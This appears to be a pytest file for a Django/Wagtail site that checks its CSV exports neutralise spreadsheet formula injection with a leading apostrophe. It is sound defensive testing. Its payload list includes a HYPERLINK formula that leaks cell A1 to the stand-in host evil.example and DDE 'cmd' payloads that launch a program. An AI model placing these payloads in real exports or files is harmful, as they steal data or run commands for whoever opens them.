"""CSV injection: text that a spreadsheet would run as a formula never goes out as one.

Every text column of the open data is tried (the columns are read from the export's own header and
matched to the initiative and its region), and Wagtail's admin exports, whose CSV writer is wrapped.
The text stays readable: one leading apostrophe, as OWASP recommends, and the JSON keeps it as written.
"""

import csv
import io
import json

import pytest

from django.urls import reverse

from initiatives.models import InitiativePage

pytestmark = pytest.mark.django_db

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_URL = "/initiativ/data/csv/"


def _rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def _text_sources(page, header):
    """{column: (object, attribute)} for every column of the export that is text an editor writes."""
    sources = {}
    for column in header:
        for owner, attribute in ((page, column), (page.region, column.removeprefix("region_"))):
            field = next((f for f in owner._meta.concrete_fields if f.attname == attribute), None)
            if field is not None and field.get_internal_type() in ("CharField", "TextField") and not field.choices:
                if field.name != "slug" and not field.name.startswith("slug_"):
                    sources[column] = (owner, attribute)
                    break
    return sources


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_every_text_column_of_the_open_data_csv_is_neutralised_and_stays_readable(client, payload):
    page = InitiativePage.objects.live().select_related("region").first()
    header = _rows(client.get(CSV_URL))[0].keys()
    sources = _text_sources(page, header)
    assert {"title_sv", "title_en", "summary_sv", "lead_organisation", "link", "region_name_en"} <= set(sources)
    # Written straight to the rows (an import or an old value may hold what a form would refuse).
    for owner, attribute in sources.values():
        type(owner).objects.filter(pk=owner.pk).update(**{attribute: payload})

    rows = _rows(client.get(CSV_URL))
    row = next(row for row in rows if row["id"] == str(page.pk))
    for column in sources:
        assert row[column] == "'" + payload, column
    for any_row in rows:
        for column, cell in any_row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    # The JSON is data, not a spreadsheet: the text as written.
    data = json.loads(client.get("/initiativ/data/json/").content)
    assert next(item for item in data["initiatives"] if item["id"] == page.pk)["title_sv"] == payload


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_wagtails_admin_csv_exports_are_neutralised(client, make_user, payload):
    page = InitiativePage.objects.live().first()
    page.title_sv = payload
    page.save_revision().publish()
    client.force_login(make_user(superuser=True))
    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + payload in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
